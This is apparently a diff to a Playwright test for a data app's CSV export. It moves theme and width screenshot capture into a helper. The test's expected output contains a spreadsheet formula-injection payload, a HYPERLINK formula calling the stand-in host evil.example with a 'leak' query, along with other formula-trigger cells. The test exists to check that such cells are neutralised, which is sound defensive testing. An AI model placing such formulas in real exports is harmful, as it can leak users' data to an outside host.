@@ -2,6 +2,7 @@ import { readFile } from 'node:fs/promises';
 import { expect, test, type Page } from '@playwright/test';
 import { recordsText, selectors as s } from '../src/testing/selectors';
 import { clusterCount } from './support/cluster-api';
+import { captureScreens } from './support/screens';
 import { dataRows, resultGrid, resultStatus, runQuery, signIn } from './support/session';
 
 // Must match ResultGrid's HEADER_HEIGHT / ROW_HEIGHT: the canvas has no DOM per cell, so a
@@ -152,17 +153,7 @@ test('CSV export neutralises cells a spreadsheet would run as formulas, unless R
 
   const raw = page.getByRole(s.results.rawValues.role, { name: s.results.rawValues.name });
   await expect(raw).not.toBeChecked();
-  for (const width of [800, 1400]) {
-    for (const theme of ['light', 'dark'] as const) {
-      await page.setViewportSize({ width, height: 820 });
-      await page.evaluate((t) => {
-        document.documentElement.dataset['theme'] = t;
-        document.documentElement.style.colorScheme = t;
-      }, theme);
-      await expect(raw).toBeVisible();
-      await page.screenshot({ path: testInfo.outputPath(`results-toolbar-${width}-${theme}.png`) });
-    }
-  }
+  await captureScreens(page, testInfo, 'results-toolbar', () => expect(raw).toBeVisible());
   await raw.check();
   expect(await exportCsv()).toBe('\uFEFFlink,sum,n\r\n"=HYPERLINK(""http://evil.example/?leak"",""x"")","+SUM(1,1)",-2\r\n');
 });
